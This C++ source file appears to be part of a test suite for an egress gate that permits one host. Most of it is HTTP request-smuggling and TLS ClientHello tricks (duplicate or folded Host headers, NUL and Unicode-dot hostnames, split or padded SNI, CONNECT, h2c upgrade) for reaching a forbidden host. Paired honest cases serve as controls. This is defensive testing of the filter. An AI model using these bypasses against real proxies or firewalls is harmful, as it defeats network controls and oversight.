// Saying to the one allowed host what is meant for another. Each message carries the run's marker; where that arrives
// the attack has worked. The honest messages carry it too, and must arrive: else the others proved nothing.
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <string>

#include "attack.h"
#include "client_hello.h"
#include "reach.h"

namespace sallyport::attacks {
namespace {

using namespace std::string_literals;

constexpr std::string_view kName = "allowed.test";
constexpr int kHttp = 80;
constexpr int kTls = 443;
constexpr int kPatience = 3000;

std::string marker() { return arg("marker"); }
std::string other() { return marker() + ".test"; }

int allowed(int port) { return connect_by_name(kName, port, arg_number("allowed")); }

// Waits for an answer, for the gate must have the time to pass the message on.
void tell(int port, std::string_view message) {
  const int fd = allowed(port);
  say(fd, message);
  answered(fd, kPatience);
  close(fd);
}

// The second is said when the first has been answered.
void tell_twice(int port, std::string_view first, std::string_view second) {
  const int fd = allowed(port);
  say(fd, first);
  char answer[4096];
  if (answered(fd, kPatience)) recv(fd, answer, sizeof answer, 0);
  say(fd, second);
  answered(fd, kPatience);
  close(fd);
}

std::string request(std::string_view target, std::string_view host, std::string_view more = "") {
  return "GET "s.append(target).append(" HTTP/1.1\r\nHost: ").append(host).append("\r\n").append(more) + "\r\n";
}
std::string honest_request() { return request("/", kName); }
std::string hostile_request() { return request("/" + marker(), other()); }

void hidden_request() {
  const std::string inner = hostile_request();
  tell(kHttp, "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: " + std::to_string(5 + inner.size()) +
                  "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner);
}

void endless_head() {
  constexpr std::size_t kEndless = 1U << 20U;
  tell(kHttp, "GET / HTTP/1.1\r\nHost: allowed.test\r\nX-Long: " + std::string(kEndless, 'x') + marker() + "\r\n\r\n");
}

Hello hello(std::string extensions) { return {.random = marker(), .extensions = std::move(extensions)}; }

constexpr unsigned kPadding = 21;
constexpr unsigned kEarlyData = 42;
constexpr unsigned kEncryptedHello = 0xfe0d;

std::string padding() { return extension(kPadding, std::string(8000, '\0')); }

void tell_slowly(const std::string& records) {
  const int fd = allowed(kTls);
  const int at_once = 1;
  setsockopt(fd, IPPROTO_TCP, 1 /* TCP_NODELAY */, &at_once, sizeof at_once);
  constexpr std::size_t kPiece = 9;
  for (std::size_t at = 0; at < records.size(); at += kPiece) {
    say(fd, std::string_view(records).substr(at, kPiece));
    usleep(200);
  }
  answered(fd, kPatience);
  close(fd);
}

// Just large enough to keep the marker in one piece, for the judge to find.
constexpr std::size_t kSmallRecord = 40;

constexpr std::array kDeeds = {
    Entry{"honest_http", [] { tell(kHttp, request("/" + marker(), kName)); }},
    Entry{"honest_tls", [] { tell(kTls, client_hello(hello(server_name(kName)))); }},
    Entry{"honest_split_hello", [] { tell_slowly(client_hello(hello(server_name(kName)), kSmallRecord)); }},
    Entry{"honest_late_name", [] { tell(kTls, client_hello(hello(padding() + server_name(kName)))); }},
    Entry{"http_other_host", [] { tell(kHttp, hostile_request()); }},
    Entry{"http_absolute_form", [] { tell(kHttp, request("http://" + other() + "/", kName)); }},
    Entry{"http_kept_alive", [] { tell_twice(kHttp, honest_request(), hostile_request()); }},
    Entry{"http_pipelined", [] { tell(kHttp, honest_request() + hostile_request()); }},
    Entry{"http_two_hosts", [] { tell(kHttp, request("/", kName, "Host: " + other() + "\r\n")); }},
    Entry{"http_folded_host", [] { tell(kHttp, request("/", "allowed.test\r\n ." + other())); }},
    Entry{"http_hidden_request", hidden_request},
    Entry{"http_userinfo", [] { tell(kHttp, request("/", "allowed.test@" + other())); }},
    Entry{"http_nul_in_host", [] { tell(kHttp, request("/", "allowed.test"s + '\0' + other())); }},
    Entry{"http_unicode_dot", [] { tell(kHttp, request("/", "allowed.test\xe3\x80\x82" + other())); }},
    Entry{"http_connect", [] { tell(kHttp, "CONNECT " + other() + ":443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n"); }},
    Entry{"http_upgrade",
          [] {
            tell_twice(kHttp, request("/", kName, "Connection: upgrade\r\nUpgrade: h2c\r\n"), marker() + "\r\n\r\n");
          }},
    Entry{"http2_preface", [] { tell(kHttp, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + marker()); }},
    Entry{"http_endless_head", endless_head},
    Entry{"raw_on_http_port", [] { tell(kHttp, "\x01\x02" + marker() + "\r\n\r\n"); }},
    Entry{"raw_on_tls_port", [] { tell(kTls, "SSH-2.0-" + marker() + "\r\n\r\n"); }},
    Entry{"tls_other_name", [] { tell(kTls, client_hello(hello(server_name(other())))); }},
    Entry{"tls_no_name", [] { tell(kTls, client_hello(hello(""))); }},
    Entry{"tls_split_hello", [] { tell_slowly(client_hello(hello(server_name(other())), kSmallRecord)); }},
    Entry{"tls_late_name", [] { tell(kTls, client_hello(hello(padding() + server_name(other())))); }},
    Entry{"tls_two_names", [] { tell(kTls, client_hello(hello(two_server_names(kName, other())))); }},
    Entry{"tls_nul_in_name", [] { tell(kTls, client_hello(hello(server_name("allowed.test"s + '\0' + other())))); }},
    Entry{"tls_ech",
          [] { tell(kTls, client_hello(hello(server_name(kName) + extension(kEncryptedHello, marker())))); }},
    Entry{"tls_early_data", [] { tell(kTls, client_hello(hello(server_name(kName) + extension(kEarlyData, "")))); }},
    Entry{"tls_second_hello",
          [] {
            tell_twice(kTls, client_hello({.random = "first", .extensions = server_name(kName)}),
                       client_hello(hello(server_name(other()))));
          }},
};

}  // namespace

std::span<const Entry> smuggling_deeds() { return kDeeds; }

}  // namespace sallyport::attacks
